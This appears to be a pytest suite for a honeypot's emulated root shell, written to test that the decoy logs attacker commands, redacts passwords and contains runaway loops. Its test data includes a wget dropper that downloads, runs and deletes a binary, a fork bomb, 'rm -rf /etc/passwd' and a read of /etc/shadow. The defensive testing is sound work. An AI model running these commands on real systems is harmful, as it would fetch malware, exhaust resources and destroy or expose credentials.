# SPDX-License-Identifier: MIT
"""What a login sees and what the observer is told."""

import asyncio

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from decnet.lures.shell.commands.registry import PROGRAMS as REGISTRY
from decnet.lures.shell.filesystem import Filesystem, Tree
from decnet.lures.shell.text.tree import ADMIN_PROGRAMS, LINKS, PROGRAMS
from tests.lures.shell.sessions import MACHINE, execute, login


async def test_prompt_and_answer_agree_with_the_persona() -> None:
    shell, watching, screen = login()

    assert shell.prompt == "root@files01:~# "
    assert await shell.run_line(b"uname -r; hostname; id -u") == 0
    assert bytes(screen.shown) == b"5.10.0-28-amd64\nfiles01\n0\n"
    assert watching.commands == [("uname -r; hostname; id -u", 0)]


async def test_a_missing_command_is_refused_as_bash_refuses_it() -> None:
    shell, _, screen = login()

    assert await shell.run_line(b"nmap") == 127
    assert bytes(screen.shown) == b"-bash: nmap: command not found\n"


@pytest.mark.parametrize(
    "line",
    [
        b"echo 'root:hunter2' | chpasswd",
        b"echo -e 'hunter2\\nhunter2' | passwd",
        b"chpasswd <<< root:hunter2",
        b"mysql -phunter2",
    ],
)
async def test_a_password_goes_to_the_secrets_and_not_into_the_command(line: bytes) -> None:
    shell, watching, _ = login()

    await shell.run_line(line)

    assert b"hunter2" in watching.secrets
    assert "hunter2" not in watching.commands[0][0]
    assert "[secret]" in watching.commands[0][0]


async def test_a_dropper_goes_on_to_its_end() -> None:
    shell, watching, screen = login()

    assert await shell.run_line(b"cd /tmp; wget -q http://203.0.113.9/x86; chmod +x x86; ./x86; rm -f x86") == 0
    assert watching.downloads == [("http://203.0.113.9/x86", "wget")]
    assert watching.files[0][0] == "/tmp/x86"
    assert bytes(screen.shown) == b""


async def test_busybox_refuses_an_unknown_applet_as_bots_expect() -> None:
    assert (await execute(b"/bin/busybox ECCHI"))[2] == b"ECCHI: applet not found\n"


async def test_what_never_ends_is_ended() -> None:
    """A line without an end is over within seconds, also beside others of its kind, and the shell goes on."""
    lines = [b"while true; do :; done", b":(){ :|:& };:", b"f(){ f; }; f", b"yes", b"x=a; while :; do x=$x$x; done"]

    async def outlive(line: bytes) -> bytes:
        shell, _, screen = login()
        await shell.run_line(line)
        screen.shown.clear()
        await shell.run_line(b"echo alive")
        return bytes(screen.shown)

    async with asyncio.timeout(20):
        assert await asyncio.gather(*map(outlive, lines)) == [b"alive\n"] * len(lines)


@pytest.mark.parametrize(
    ("text", "more"),
    [
        (b"for i in 1 2", True), (b"for i in 1 2\ndo echo $i", True), (b"for i in 1 2\ndo echo $i\ndone", False),
        (b"cat <<E", True), (b"cat <<E\nbody", True), (b"cat <<E\nbody\nE", False), (b"if true; then", True),
        (b"echo 'a", True), (b"echo a \\", True), (b"echo a", False), (b"", False), (b"fi", False), (b"f() {", True),
        (b"while\n" * 600, False), (b"(" + b"a" * 100_000, False),
    ],
)  # fmt: skip
def test_a_script_says_whether_it_needs_another_line(text: bytes, more: bool) -> None:  # noqa: FBT001 - the table's column
    shell, _, _ = login()

    assert shell.needs_more(text) is more


async def test_a_secret_from_an_earlier_line_is_not_repeated() -> None:
    """A variable hides the password from the line that uses it; neither that record nor later ones say it."""
    shell, watching, _ = login()

    for line in (b"P=hunter2", b"echo root:$P | chpasswd", b"echo hunter2", b"Q=hunt; echo root:${Q}er2 | chpasswd"):
        await shell.run_line(line)

    assert watching.secrets == [b"hunter2", b"hunter2"]
    assert [line for line, _ in watching.commands[1:]] == ["[secret] | chpasswd", "echo [secret]", "[secret] | chpasswd"]


def test_every_program_has_a_file() -> None:
    """What the registry knows can be called: its file is in the image, or busybox brings it."""
    files = (
        set(ADMIN_PROGRAMS)
        | set(PROGRAMS)
        | {path.rsplit("/", 1)[-1] for path in LINKS}
        | {"sh", "ash", "ftpget", "ftpput", "psql", "python3"}
    )

    assert set(REGISTRY) <= files


async def test_sessions_do_not_see_each_others_changes() -> None:
    first, _, _ = login()
    await first.run_line(b"rm -rf /etc/passwd; echo x > /tmp/mine")
    second, _, screen = login()

    await second.run_line(b"cat /tmp/mine; wc -l < /etc/passwd")

    assert b"No such file" in screen.shown
    assert int(screen.shown.split(b"\n")[-2]) > 20


async def test_a_file_system_has_bounds() -> None:
    tree = Tree(MACHINE.new_filesystem().tree.root, max_bytes=1000, max_files=50)

    with pytest.raises(OSError, match="No space left"):
        Filesystem(tree).write("/tmp/big", bytes(2000))


async def test_a_loop_of_links_is_an_error() -> None:
    code, _, errors = await execute(b"ln -s b a; ln -s a b; cat a")

    assert (code, errors) == (1, b"cat: a: Too many levels of symbolic links\n")


async def test_an_ordinary_user_may_not_read_the_shadow_file() -> None:
    shell, _, screen = login(MACHINE.administrator)

    assert await shell.run_line(b"cat /etc/shadow") == 1
    assert bytes(screen.shown) == b"cat: /etc/shadow: Permission denied\n"


async def test_completion_knows_commands_and_paths() -> None:
    shell, _, _ = login()

    assert b"hostname" in shell.complete(b"hostn")
    assert shell.complete(b"cat /etc/host") == [b"/etc/hostname", b"/etc/hosts", b"/etc/hosts.allow", b"/etc/hosts.deny"]


@settings(max_examples=150, deadline=None)
@given(st.one_of(st.binary(max_size=60), st.text(alphabet="ab $(){}[]|&;<>'\"`\\#*?~!=0129/.-\n", max_size=40).map(str.encode)))
def test_any_line_ends_with_a_code(line: bytes) -> None:
    """Whatever is sent, the shell neither raises nor hangs."""

    async def attempt() -> int:
        shell, _, _ = login()
        async with asyncio.timeout(20):
            return await shell.run_line(line)

    assert 0 <= asyncio.run(attempt()) <= 255
